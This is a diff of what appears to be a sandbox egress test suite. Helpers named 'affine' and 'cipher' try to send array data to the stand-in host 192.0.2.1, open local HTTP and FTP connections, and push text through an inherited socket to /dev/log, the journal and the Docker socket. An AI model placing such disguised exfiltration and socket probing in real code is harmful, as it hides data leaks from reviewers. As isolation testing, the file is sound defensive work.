@@ -23,7 +23,7 @@ def internet_by_libraries():
 
     def affine(x, factor, shift=0.0):
         for attempt in (
-            lambda: urllib.request.urlopen("http://192.0.2.1/?" + str(x.tolist()), timeout=1),
+            lambda: urllib.request.urlopen("http://192.0.2.1/" + str(float(x[0])), timeout=1),
             lambda: http.client.HTTPConnection("127.0.0.1", 80, timeout=1).request("GET", "/"),
             lambda: ftplib.FTP("127.0.0.1", timeout=1),
         ):
@@ -50,10 +50,11 @@ def names_looked_up():
 
 def datagrams_without_connecting():
     """sendto and sendmsg with an address cannot leave through the worker's own socket."""
+    import os
     import socket
 
     def cipher(text, key):
-        pair = socket.socket(fileno=3)
+        pair = socket.socket(fileno=os.dup(3))
         for address in ("/dev/log", "/run/systemd/journal/socket", "/var/run/docker.sock", "\0redteam"):
             try:
                 pair.sendto(text.encode(), address)
